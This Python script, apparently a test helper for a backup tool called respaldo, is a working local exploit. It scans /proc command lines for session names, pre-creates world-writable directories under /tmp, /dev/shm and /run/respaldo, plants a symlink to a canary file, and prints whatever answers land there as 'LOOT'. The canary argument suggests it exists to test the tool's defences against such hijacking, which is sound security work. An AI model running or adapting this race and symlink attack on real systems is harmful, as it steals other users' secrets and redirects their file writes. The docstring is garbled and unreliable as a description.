# Copyright (c) 2026, perucompras.respaldo contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Any account of a server: it reads names of lines in command lines, and makes them first. Run by itself: line_thief.py CANARY MARK.

Only lines of commands that hold MARK are taken.
"""

import os
import re
import sys

NAME = re.compile(rb"respaldo-line-([0-9a-f]{32})")


def take(name, canary):
    for room in ("/run/respaldo", "/dev/shm", "/tmp"):
        path = os.path.join(room, ".respaldo-line-" + name)
        try:
            os.mkdir(path, 0o777)
            os.chmod(path, 0o777)
            os.symlink(canary, os.path.join(path, "progress.new"))
            with open(os.path.join(path, "answers.new"), "w", encoding="utf-8"):
                pass     # his own file, into which the answer is written
            with open(os.path.join(path, "ask"), "w", encoding="utf-8") as file:
                file.write("repository\tazure\n")
            print("made " + path, flush=True)
        except OSError:
            pass


def loot(name):
    for room in ("/run/respaldo", "/dev/shm", "/tmp"):
        for each in ("answers", "answers.new"):
            try:
                with open(os.path.join(room, ".respaldo-line-" + name, each), encoding="utf-8") as file:
                    said = file.read()
                if said:
                    print("LOOT " + said, flush=True)
            except OSError:
                pass


if __name__ == "__main__":
    known = set()
    print("ready", flush=True)
    while True:
        for number in os.listdir("/proc"):
            if number.isdigit():
                try:
                    with open("/proc/{0}/cmdline".format(number), "rb") as command:
                        said = command.read()
                        names = set(NAME.findall(said)) if sys.argv[2].encode() in said else set()
                except OSError:
                    continue
                for each in names - known:
                    known.add(each)
                    take(each.decode(), sys.argv[1])
        for each in known:
            loot(each.decode())
